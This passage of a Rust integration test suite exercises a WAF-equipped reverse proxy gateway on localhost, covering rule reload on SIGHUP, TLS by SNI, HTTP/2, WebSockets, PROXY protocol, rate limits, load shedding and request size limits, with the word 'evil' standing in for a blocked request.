            return (child, url.trim_end_matches('/').to_owned());
        }
    }
}

#[tokio::test]
async fn reload_on_sighup_drops_no_request_and_refuses_bad_rules() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules.conf");
    std::fs::write(&rules, EVIL_RULE).unwrap();
    let up = named_upstream("A", healthy()).await;
    let admin_port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap();
    let file = dir.path().join("gateway.toml");
    std::fs::write(
        &file,
        format!(
            "[[listen]]\naddress = \"127.0.0.1:0\"\n[admin]\nlisten = \"{admin_port}\"\n\
             [[site]]\nname = \"portal\"\nupstreams = [\"{up}\"]\nrules = \"rules.conf\"\n"
        ),
    )
    .unwrap();
    let (child, gw) = gateway_process(&file).await;
    let pid = child.id().unwrap().to_string();

    // A steady stream of benign requests for the whole test, on keep-alive connections.
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let mut streams = Vec::new();
    for _ in 0..4 {
        let (gw, stop) = (gw.clone(), stop.clone());
        streams.push(tokio::spawn(async move {
            let c = client();
            let (mut ok, mut failed) = (0u32, 0u32);
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                match c.get(format!("{gw}/page?n={ok}")).send().await {
                    Ok(r) if r.status() == StatusCode::OK => ok += 1,
                    _ => failed += 1,
                }
            }
            (ok, failed)
        }));
    }
    let blocked = |q: &'static str| {
        let gw = gw.clone();
        async move {
            client()
                .get(format!("{gw}/?q={q}"))
                .send()
                .await
                .unwrap()
                .status()
                == StatusCode::FORBIDDEN
        }
    };
    assert!(blocked("evil").await);
    assert!(!blocked("wicked").await);

    // A new rule, then SIGHUP: enforced without a restart.
    std::fs::write(
        &rules,
        "SecRule ARGS \"@contains evil\" \"id:1,phase:2,deny\"\n\
         SecRule ARGS \"@contains wicked\" \"id:2,phase:2,deny\"\n",
    )
    .unwrap();
    let status = std::process::Command::new("kill")
        .args(["-HUP", &pid])
        .status()
        .unwrap();
    assert!(status.success());
    let mut enforced = false;
    for _ in 0..100 {
        if blocked("wicked").await {
            enforced = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(enforced, "the new rule is enforced after SIGHUP");

    // A rule file with an error: `qalxan gateway reload` says where, the old rules keep running.
    std::fs::write(
        &rules,
        "SecRule ARGS \"@contains evil\" \"id:1,phase:2,deny\"\nSecRuel oops\n",
    )
    .unwrap();
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_qalxan"))
        .args(["gateway", "reload", "--config"])
        .arg(&file)
        .output()
        .await
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("rules.conf:2"), "{err}");
    assert!(blocked("evil").await && blocked("wicked").await);

    // Fixed again: the reload command succeeds.
    std::fs::write(&rules, EVIL_RULE).unwrap();
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_qalxan"))
        .args([
            "gateway",
            "reload",
            "--admin",
            &format!("http://{admin_port}"),
        ])
        .output()
        .await
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("reloaded: 1 sites"));
    assert!(!blocked("wicked").await);

    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let (mut ok, mut failed) = (0, 0);
    for s in streams {
        let (o, f) = s.await.unwrap();
        ok += o;
        failed += f;
    }
    // The streams ran across the reloads; how many requests they made depends on the
    // machine's load (50 on a busy one), so the bound only says that they did.
    assert!(ok > 20, "{ok} requests went through");
    assert_eq!(failed, 0, "no request failed across three reloads");
}

/// A self-signed certificate for `host` (openssl), returning (cert, key) paths.
fn certificate(dir: &Path, host: &str) -> (std::path::PathBuf, std::path::PathBuf) {
    let cert = dir.join(format!("{host}.crt"));
    let key = dir.join(format!("{host}.key"));
    let out = std::process::Command::new("openssl")
        .args([
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:prime256v1",
            "-nodes",
            "-days",
            "2",
            "-subj",
        ])
        .arg(format!("/CN={host}"))
        .arg("-addext")
        .arg(format!("subjectAltName=DNS:{host}"))
        // A server's certificate, not an authority's: rustls refuses a CA as an end entity.
        .args(["-addext", "basicConstraints=critical,CA:FALSE"])
        .arg("-keyout")
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    (cert, key)
}

/// curl's answer: (HTTP version, status, body).
async fn curl(args: &[&str]) -> (String, String, String) {
    let out = tokio::process::Command::new("curl")
        .args(["-sS", "-w", "\n%{http_version} %{http_code}"])
        .args(args)
        .output()
        .await
        .unwrap();
    assert!(
        out.status.success(),
        "curl {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout).unwrap();
    let (body, tail) = text.rsplit_once('\n').unwrap();
    let (version, code) = tail.split_once(' ').unwrap();
    (version.to_owned(), code.to_owned(), body.to_owned())
}

#[tokio::test]
async fn tls_certificates_by_sni_and_http2_on_both_listeners() {
    let dir = tempfile::tempdir().unwrap();
    let (a_cert, a_key) = certificate(dir.path(), "a.test");
    let (b_cert, b_key) = certificate(dir.path(), "b.test");
    std::fs::write(dir.path().join("rules.conf"), EVIL_RULE).unwrap();
    let a = named_upstream("A", healthy()).await;
    let b = named_upstream("B", healthy()).await;
    let file = dir.path().join("gateway.toml");
    std::fs::write(
        &file,
        format!(
            r#"
[[listen]]
address = "127.0.0.1:0"
tls = true
[[listen]]
address = "127.0.0.1:0"
[waf]
rules = "rules.conf"
[[site]]
name = "a"
hosts = ["a.test"]
upstreams = ["{a}"]
certificate = "{}"
key = "{}"
[[site]]
name = "b"
hosts = ["b.test"]
upstreams = ["{b}"]
certificate = "{}"
key = "{}"
"#,
            a_cert.display(),
            a_key.display(),
            b_cert.display(),
            b_key.display()
        ),
    )
    .unwrap();
    let gw = qalxan_gateway::Gateway::start(Config::from_file(&file).unwrap(), None)
        .await
        .unwrap();
    let tls_port = gw.addresses()[0]
        .1
        .then_some(gw.addresses()[0].0.port())
        .unwrap();
    let plain_port = gw.addresses()[1].0.port();
    tokio::spawn(gw.serve(std::future::pending()));
    for (host, cert, name) in [("a.test", &a_cert, "A"), ("b.test", &b_cert, "B")] {
        // curl checks the certificate against the site's own: the wrong one would fail.
        let resolve = format!("{host}:{tls_port}:127.0.0.1");
        let url = format!("https://{host}:{tls_port}/hello");
        let cacert = cert.to_str().unwrap();
        let (version, code, body) =
            curl(&["--http2", "--cacert", cacert, "--resolve", &resolve, &url]).await;
        assert_eq!((version.as_str(), code.as_str()), ("2", "200"), "{body}");
        assert!(body.starts_with(&format!("{name} saw /hello")), "{body}");
        let (version, code, _) =
            curl(&["--http1.1", "--cacert", cacert, "--resolve", &resolve, &url]).await;
        assert_eq!((version.as_str(), code.as_str()), ("1.1", "200"));
        let attack = format!("https://{host}:{tls_port}/?q=evil");
        let (_, code, body) = curl(&[
            "--http2",
            "--cacert",
            cacert,
            "--resolve",
            &resolve,
            &attack,
        ])
        .await;
        assert_eq!(code, "403", "the WAF sees HTTP/2 requests: {body}");
    }
    // HTTP/2 with prior knowledge on the plain listener.
    let (version, code, body) = curl(&[
        "--http2-prior-knowledge",
        "-H",
        "Host: b.test",
        &format!("http://127.0.0.1:{plain_port}/plain"),
    ])
    .await;
    assert_eq!((version.as_str(), code.as_str()), ("2", "200"));
    assert!(body.starts_with("B saw /plain"), "{body}");
}

/// Starts Python on `script` with `args`: the server (killed when dropped) and the port it
/// prints first; `missing` says why it would print none.
async fn python_server(
    script: &str,
    args: &[&std::ffi::OsStr],
    missing: &str,
) -> (tokio::process::Child, String) {
    use tokio::io::AsyncBufReadExt;
    let mut server = tokio::process::Command::new("python3")
        .args(["-c", script])
        .args(args)
        .stdout(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut lines = tokio::io::BufReader::new(server.stdout.take().unwrap()).lines();
    let port = tokio::time::timeout(Duration::from_secs(30), lines.next_line())
        .await
        .unwrap()
        .unwrap()
        .expect(missing);
    (server, port)
}

#[tokio::test]
async fn websocket_upgrades_pass_through_the_gateway() {
    let python = "import asyncio, sys, websockets\n\
async def echo(ws):\n    async for m in ws:\n        await ws.send('echo: ' + m)\n\
async def main():\n    async with websockets.serve(echo, '127.0.0.1', 0) as s:\n        print(s.sockets[0].getsockname()[1], flush=True)\n        await asyncio.Future()\n\
asyncio.run(main())\n";
    let (_server, port) = python_server(
        python,
        &[],
        "the Python websockets package (installed by .ci/run) runs the echo server",
    )
    .await;
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules.conf");
    std::fs::write(&rules, EVIL_RULE).unwrap();
    let gw = gateway(site_config(
        &format!("http://127.0.0.1:{port}"),
        WafMode::Block,
        Some(rules),
    ))
    .await;
    let ws = gw.replace("http://", "ws://");
    let client = "import sys\nfrom websockets.sync.client import connect\n\
with connect(sys.argv[1]) as ws:\n    for m in ['one', 'two']:\n        ws.send(m)\n        print(ws.recv())\n\
try:\n    connect(sys.argv[2])\n    print('not refused')\nexcept Exception as e:\n    print('refused', getattr(getattr(e, 'response', None), 'status_code', e))\n";
    let out = tokio::process::Command::new("python3")
        .args([
            "-c",
            client,
            &format!("{ws}/chat"),
            &format!("{ws}/chat?room=evil"),
        ])
        .output()
        .await
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "echo: one\necho: two\nrefused 403\n",
        "messages both ways, and the WAF still inspects the handshake"
    );
}

#[tokio::test]
async fn qalxan_serve_runs_the_gateway_of_its_gateway_table() {
    use tokio::io::AsyncBufReadExt;
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("rules.conf"), EVIL_RULE).unwrap();
    let up = named_upstream("A", healthy()).await;
    let file = dir.path().join("qalxan.toml");
    std::fs::write(
        &file,
        format!(
            "data_dir = \"{}\"\nlisten = \"127.0.0.1:0\"\n\n[gateway]\n[[gateway.listen]]\n\
             address = \"127.0.0.1:0\"\n[[gateway.site]]\nname = \"portal\"\nupstreams = [\"{up}\"]\n\
             rules = \"rules.conf\"\n",
            dir.path().join("data").display()
        ),
    )
    .unwrap();
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_qalxan"))
        .args(["serve", "--config"])
        .arg(&file)
        .env_remove("QALXAN_DATABASE_URL")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut lines = tokio::io::BufReader::new(child.stdout.take().unwrap()).lines();
    let (mut gateway, mut dashboard) = (None, None);
    while gateway.is_none() || dashboard.is_none() {
        let line = tokio::time::timeout(Duration::from_secs(60), lines.next_line())
            .await
            .unwrap()
            .unwrap()
            .expect("qalxan serve stopped before serving");
        if let Some(url) = line.strip_prefix("Qalxan gateway on ") {
            gateway = Some(url.trim_end_matches('/').to_owned());
        }
        if let Some(url) = line.split("dashboard and API on ").nth(1) {
            dashboard = Some(url.trim_end_matches('/').to_owned());
        }
    }
    tokio::spawn(async move { while let Ok(Some(_)) = lines.next_line().await {} });
    let (gw, dashboard) = (gateway.unwrap(), dashboard.unwrap());
    let r = client().get(format!("{gw}/?q=fine")).send().await.unwrap();
    assert!(r.text().await.unwrap().starts_with("A saw /?q=fine"));
    let r = client().get(format!("{gw}/?q=evil")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = client()
        .get(format!("{dashboard}/login"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);

    // With no [gateway.server] table the gateway reports to the server it runs in: the
    // block is an event there, with no token configured by anyone.
    let minted = std::process::Command::new(env!("CARGO_BIN_EXE_qalxan"))
        .args([
            "token", "create", "--name", "reader", "--role", "analyst", "--config",
        ])
        .arg(&file)
        .env_remove("QALXAN_DATABASE_URL")
        .output()
        .unwrap();
    assert!(minted.status.success(), "{minted:?}");
    let token = String::from_utf8(minted.stdout).unwrap().trim().to_owned();
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    let blocked = loop {
        let events: serde_json::Value = client()
            .get(format!("{dashboard}/api/v1/events?kind=waf.blocked"))
            .bearer_auth(&token)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let found = events["items"]
            .as_array()
            .and_then(|items| items.iter().find(|e| e["kind"] == "waf.blocked").cloned());
        if let Some(event) = found {
            break event;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no block event: {events}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    assert_eq!(blocked["attributes"]["uri"], "/?q=evil", "{blocked}");
    assert_eq!(blocked["attributes"]["site"], "portal", "{blocked}");
}

/// Writes `request` on a new connection from `from` and reads until the gateway closes it.
async fn raw_exchange(gateway: &str, from: [u8; 4], request: &[u8]) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    socket.bind(std::net::SocketAddr::from((from, 0))).unwrap();
    let addr: std::net::SocketAddr = gateway.trim_start_matches("http://").parse().unwrap();
    let mut stream = socket.connect(addr).await.unwrap();
    stream.write_all(request).await.unwrap();
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), stream.read_to_end(&mut answer)).await;
    String::from_utf8_lossy(&answer).into_owned()
}

#[tokio::test]
async fn a_proxy_protocol_listener_takes_the_client_from_the_balancers_header() {
    // An upstream that says whom the gateway forwarded for.
    let app = axum::Router::new().fallback(any(|headers: axum::http::HeaderMap| async move {
        let xff = headers.get("x-forwarded-for").and_then(|v| v.to_str().ok());
        format!("for={}", xff.unwrap_or("-"))
    }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let up = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    let mut config = site_config(&up, WafMode::Off, None);
    config.listeners[0].proxy_protocol = true;
    // The load balancer is 127.0.0.1; each client it names may send one request.
    config.trusted_proxies = vec!["127.0.0.1/32".parse().unwrap()];
    config.limits.rate = Some((0.001, 1.0));
    let (gw, admin) = gateway_with_admin(config).await;
    let balancer = [127, 0, 0, 1];
    let http = b"GET / HTTP/1.1\r\nHost: example.gov\r\nConnection: close\r\n\r\n";
    let v1 = |ip: &str| {
        let mut r = format!("PROXY TCP4 {ip} 192.0.2.10 51234 80\r\n").into_bytes();
        r.extend_from_slice(http);
        r
    };

    let first = raw_exchange(&gw, balancer, &v1("203.0.113.7")).await;
    assert!(first.starts_with("HTTP/1.1 200"), "{first}");
    assert!(
        first.ends_with("for=203.0.113.7"),
        "the named client, not the balancer: {first}"
    );
    let again = raw_exchange(&gw, balancer, &v1("203.0.113.7")).await;
    assert!(
        again.starts_with("HTTP/1.1 429"),
        "limits apply to the named client: {again}"
    );
    let other = raw_exchange(&gw, balancer, &v1("203.0.113.8")).await;
    assert!(
        other.starts_with("HTTP/1.1 200") && other.ends_with("for=203.0.113.8"),
        "another client behind the same balancer is served: {other}"
    );

    // Version 2, binary, as HAProxy's send-proxy-v2 writes it: PROXY command, TCP over IPv4.
    let mut v2 = b"\r\n\r\n\0\r\nQUIT\n\x21\x11\x00\x0c".to_vec();
    v2.extend_from_slice(&[198, 51, 100, 9, 192, 0, 2, 10]);
    v2.extend_from_slice(&40000u16.to_be_bytes());
    v2.extend_from_slice(&80u16.to_be_bytes());
    v2.extend_from_slice(http);
    let binary = raw_exchange(&gw, balancer, &v2).await;
    assert!(
        binary.starts_with("HTTP/1.1 200") && binary.ends_with("for=198.51.100.9"),
        "{binary}"
    );

    // No header, or a header from a peer that is not a trusted proxy: closed unanswered.
    assert_eq!(raw_exchange(&gw, balancer, http).await, "");
    assert_eq!(
        raw_exchange(&gw, [127, 0, 0, 2], &v1("203.0.113.9")).await,
        "",
        "only trusted proxies may name clients"
    );
    let metrics = metrics(&admin).await;
    assert!(
        metrics.contains("qalxan_gateway_proxy_protocol_refused_total 2"),
        "{metrics}"
    );
}

#[tokio::test]
async fn a_site_can_have_a_stricter_rate_than_the_rest() {
    let up = upstream().await;
    let uri = qalxan_gateway::upstream_uri(&up).unwrap();
    let login = Site {
        path_prefix: "/login".into(),
        waf: WafMode::Off,
        rate: Some((0.001, 2.0)),
        ..Site::new("login", uri.clone())
    };
    let rest = Site {
        waf: WafMode::Off,
        ..Site::new("rest", uri)
    };
    let gw = gateway(Config::new(
        "127.0.0.1:0".parse().unwrap(),
        vec![login, rest],
    ))
    .await;
    let c = client();
    let mut statuses = Vec::new();
    for path in ["/login", "/login", "/login", "/", "/", "/", "/"] {
        statuses.push(c.get(format!("{gw}{path}")).send().await.unwrap().status());
    }
    assert_eq!(
        statuses,
        [200, 200, 429, 200, 200, 200, 200],
        "two logins, then limited; the rest of the site is not"
    );
    let other = client_from([127, 0, 0, 4]);
    let status = other
        .get(format!("{gw}/login"))
        .send()
        .await
        .unwrap()
        .status();
    assert_eq!(status, StatusCode::OK, "per client address");
}

#[tokio::test]
async fn under_overload_the_heaviest_client_is_shed_first() {
    // An upstream that takes its time, so requests pile up in flight.
    let app = axum::Router::new().fallback(any(|| async {
        tokio::time::sleep(Duration::from_millis(1000)).await;
        "slow answer"
    }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let up = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    let mut config = site_config(&up, WafMode::Off, None);
    config.limits.max_in_flight = Some(6);
    let (gw, admin) = gateway_with_admin(config).await;

    // One client opens 24 requests at once...
    let heavy_client = client_from([127, 0, 0, 2]);
    let mut heavy = Vec::new();
    for _ in 0..24 {
        let gw = gw.clone();
        let c = heavy_client.clone();
        heavy.push(tokio::spawn(async move {
            let r = c.get(format!("{gw}/")).send().await.unwrap();
            (r.status(), r.headers().contains_key("retry-after"))
        }));
    }
    tokio::time::sleep(Duration::from_millis(150)).await;
    // ...while another asks one thing at a time.
    let light = client_from([127, 0, 0, 3]);
    for _ in 0..2 {
        let status = light.get(format!("{gw}/")).send().await.unwrap().status();
        assert_eq!(status, StatusCode::OK, "the light client is served");
    }
    let mut heavy_statuses = Vec::new();
    for h in heavy {
        heavy_statuses.push(h.await.unwrap());
    }
    let shed = heavy_statuses
        .iter()
        .filter(|(s, retry)| *s == StatusCode::SERVICE_UNAVAILABLE && *retry)
        .count();
    let served = heavy_statuses
        .iter()
        .filter(|(s, _)| *s == StatusCode::OK)
        .count();
    assert!(
        shed >= 12 && served >= 6 && shed + served == 24,
        "the heavy client fills the gateway, the rest of its requests are shed: {heavy_statuses:?}"
    );
    let metrics = metrics(&admin).await;
    assert!(
        metrics.contains(&format!("outcome=\"shed\"}} {shed}")),
        "{metrics}"
    );
    assert!(metrics.contains("qalxan_gateway_in_flight 0"), "{metrics}");
}

#[tokio::test]
async fn a_pool_may_speak_http2_to_its_servers() {
    // The upstream says which protocol reached it (axum serves h2c by prior knowledge too).
    let app = axum::Router::new().fallback(any(|req: axum::extract::Request| async move {
        format!("{:?}", req.version())
    }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let up = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    let uri = qalxan_gateway::upstream_uri(&up).unwrap();
    let mut h2 = Site {
        path_prefix: "/h2".into(),
        waf: WafMode::Off,
        ..Site::new("h2", uri.clone())
    };
    h2.upstream.http2 = true;
    let h1 = Site {
        waf: WafMode::Off,
        ..Site::new("h1", uri)
    };
    let gw = gateway(Config::new("127.0.0.1:0".parse().unwrap(), vec![h2, h1])).await;
    let c = client();
    for _ in 0..3 {
        let body = c.get(format!("{gw}/h2/x")).send().await.unwrap();
        assert_eq!(body.text().await.unwrap(), "HTTP/2.0");
    }
    let body = c.get(format!("{gw}/")).send().await.unwrap();
    assert_eq!(body.text().await.unwrap(), "HTTP/1.1");
}

/// An HTTPS upstream (Python's http.server) that answers with the port of the connection the
/// request came on, closes a connection after `/close` and any connection idle for a second.
const PORT_TELLING_UPSTREAM: &str = r#"
import http.server, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    timeout = 1.0
    def do_GET(self):
        body = str(self.client_address[1]).encode()
        self.send_response(200)
        self.send_header('Content-Length', str(len(body)))
        if self.path.startswith('/close'):
            self.send_header('Connection', 'close')
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(sys.argv[1], sys.argv[2])
s.socket = ctx.wrap_socket(s.socket, server_side=True)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;

#[tokio::test]
async fn upstream_connections_are_kept_reused_and_replaced_when_closed() {
    let dir = tempfile::tempdir().unwrap();
    let (cert, key) = certificate(dir.path(), "localhost");
    let (_server, port) = python_server(
        PORT_TELLING_UPSTREAM,
        &[cert.as_os_str(), key.as_os_str()],
        "the upstream prints its port",
    )
    .await;
    let uri = qalxan_gateway::upstream_uri(&format!("https://localhost:{port}")).unwrap();
    let mut site = Site {
        waf: WafMode::Off,
        ..Site::new("tls", uri)
    };
    // Only trusted through the pool's own authority: the certificate is self-signed.
    site.upstream.ca = Some(cert);
    let mut config = Config::new("127.0.0.1:0".parse().unwrap(), vec![site]);
    // One worker: every request of the test uses the same worker's connections.
    config.workers = 1;
    let gw = gateway(config).await;
    let c = client();
    let get = |path: &'static str| {
        let c = c.clone();
        let gw = gw.clone();
        async move {
            let r = c.get(format!("{gw}{path}")).send().await.unwrap();
            assert_eq!(r.status(), StatusCode::OK, "{path}");
            r.text().await.unwrap()
        }
    };
    let first = get("/a").await;
    assert_eq!(
        get("/b").await,
        first,
        "one connection kept for the next request"
    );
    assert_eq!(get("/c").await, first);
    assert_eq!(get("/close").await, first);
    let second = get("/d").await;
    assert_ne!(
        second, first,
        "a connection the upstream closed is not used again"
    );
    assert_eq!(get("/e").await, second);
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let third = get("/f").await;
    assert_ne!(
        third, second,
        "the upstream closed the idle connection: a new one"
    );
    assert_eq!(get("/g").await, third);
}

#[tokio::test]
async fn requests_over_the_size_bounds_are_refused_before_the_upstream() {
    let up = upstream().await;
    let uri = qalxan_gateway::upstream_uri(&up).unwrap();
    let upload = Site {
        path_prefix: "/upload".into(),
        waf: WafMode::Off,
        max_body: Some(100_000),
        ..Site::new("upload", uri.clone())
    };
    let rest = Site {
        waf: WafMode::Off,
        ..Site::new("rest", uri)
    };
    let mut config = Config::new("127.0.0.1:0".parse().unwrap(), vec![upload, rest]);
    config.request_limits = qalxan_gateway::RequestLimits {
        max_uri: 2048,
        max_header_count: 40,
        max_header_bytes: 8192,
        max_body: Some(1000),
        ..Default::default()
    };
    let (gw, admin) = gateway_with_admin(config).await;
    let c = client();
    let status = |r: reqwest::Response| r.status().as_u16();

    let long = format!("{gw}/?q={}", "a".repeat(3000));
    assert_eq!(status(c.get(&long).send().await.unwrap()), 414);
    let mut many = c.get(format!("{gw}/"));
    for i in 0..45 {
        many = many.header(format!("x-h{i}"), "1");
    }
    assert_eq!(status(many.send().await.unwrap()), 431, "too many headers");
    let big_header = c.get(format!("{gw}/")).header("x-big", "b".repeat(9000));
    assert_eq!(
        status(big_header.send().await.unwrap()),
        431,
        "too many bytes"
    );

    // Bodies: the global bound on one site, the site's own on the other; declared or streamed.
    let post = |path: &str, n: usize| c.post(format!("{gw}{path}")).body(vec![b'x'; n]);
    assert_eq!(status(post("/", 900).send().await.unwrap()), 200);
    assert_eq!(status(post("/", 5000).send().await.unwrap()), 413);
    assert_eq!(status(post("/upload/a", 50_000).send().await.unwrap()), 200);
    assert_eq!(
        status(post("/upload/a", 150_000).send().await.unwrap()),
        413
    );
    // A chunked body declares no length: it is cut off where it passes the limit.
    let mut chunked =
        b"POST /upload/b HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
            .to_vec();
    for _ in 0..40 {
        chunked.extend_from_slice(b"1388\r\n");
        chunked.extend_from_slice(&[b'y'; 5000]);
        chunked.extend_from_slice(b"\r\n");
    }
    chunked.extend_from_slice(b"0\r\n\r\n");
    let answer = raw_exchange(&gw, [127, 0, 0, 1], &chunked).await;
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    let metrics = metrics(&admin).await;
    assert!(metrics.contains("outcome=\"too_large\"}"), "{metrics}");
}

/// The admin API's Prometheus metrics.
async fn metrics(admin: &str) -> String {
    client()
        .get(format!("{admin}/metrics"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap()
}

/// The connections open on each worker, from the admin API's metrics.
async fn worker_connections(admin: &str) -> Vec<u64> {
    metrics(admin)
        .await
        .lines()
        .filter(|l| l.starts_with("qalxan_gateway_connections{worker="))
        .map(|l| l.rsplit(' ').next().unwrap().parse().unwrap())
        .collect()
}

#[tokio::test]
async fn worker_threads_serve_keep_alive_connections_and_count_them() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let up = upstream().await;
    let mut config = site_config(&up, WafMode::Off, None);
    config.workers = 3;
    let (gw, admin) = gateway_with_admin(config).await;
    assert_eq!(worker_connections(&admin).await, [0, 0, 0]);
    // Connections stay open between their requests, on the worker that accepted them.
    let addr: std::net::SocketAddr = gw.trim_start_matches("http://").parse().unwrap();
    let mut held = Vec::new();
    for i in 0..6 {
        let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
        for round in 0..2 {
            let request = format!("GET /c{i}/r{round} HTTP/1.1\r\nHost: test\r\n\r\n");
            stream.write_all(request.as_bytes()).await.unwrap();
            let mut answer = vec![0u8; 4096];
            let n = stream.read(&mut answer).await.unwrap();
            let answer = String::from_utf8_lossy(&answer[..n]).into_owned();
            assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
            assert!(
                answer.contains(&format!("upstream saw /c{i}/r{round}")),
                "{answer}"
            );
        }
        held.push(stream);
    }
    let open = worker_connections(&admin).await;
    assert_eq!(open.len(), 3, "{open:?}");
    assert_eq!(open.iter().sum::<u64>(), 6, "{open:?}");
    drop(held);
    let mut open = Vec::new();
    for _ in 0..100 {
        open = worker_connections(&admin).await;
        if open.iter().sum::<u64>() == 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(open, [0, 0, 0], "closed connections are no longer counted");
}
